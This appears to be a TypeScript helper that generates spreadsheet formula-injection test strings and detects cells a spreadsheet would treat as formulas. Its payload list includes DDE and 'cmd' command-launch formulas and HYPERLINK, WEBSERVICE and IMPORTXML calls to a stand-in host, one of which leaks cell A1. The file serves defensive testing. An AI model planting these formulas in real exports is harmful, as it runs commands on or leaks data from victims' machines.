/** Formulas that somebody could write into a cell so that another's spreadsheet runs them, made from a grammar. */

const PRIMA = [
  '',
  ' ',
  '\u00A0',
  '\u200B',
  '\uFEFF',
  '"',
  "''",
  '\t',
  'x;',
  'x;"',
  'x\n',
  'x\r\n',
  '","',
  '";"',
  '";"";"',
  ';;',
];
const SEGNI = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '==', '=+', '-+', '+-', '@='];
const CORPI = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://altrove.example?"&A1;"clic")',
  'WEBSERVICE("http://altrove.example")',
  'IMPORTXML("http://altrove.example";"//a")',
  'DDE("cmd";"/C calc";"x")',
  'SUM(A1:A9)',
  'SOMMA(A1)*2',
  '2+5+cmd|calc!A0',
  '40',
];

/** @returns all of them, each once, in an order that mixes them */
export function listFormule(): string[] {
  const tutte = PRIMA.flatMap((prima) => SEGNI.flatMap((segno) => CORPI.map((corpo) => `${prima}${segno}${corpo}`)));
  const passo = 997;
  return tutte.map((_, i) => tutte[(i * passo) % tutte.length] ?? '');
}

/** Whether a spreadsheet could take a cell of text for a formula: an apostrophe in front keeps it from it. */
export function isFormula(cella: string): boolean {
  return /^(?:[\t\r\n]|[\s\p{Cf}"]*[=+\-@＝＋－＠﹦﹢﹣﹫])/u.test(cella);
}
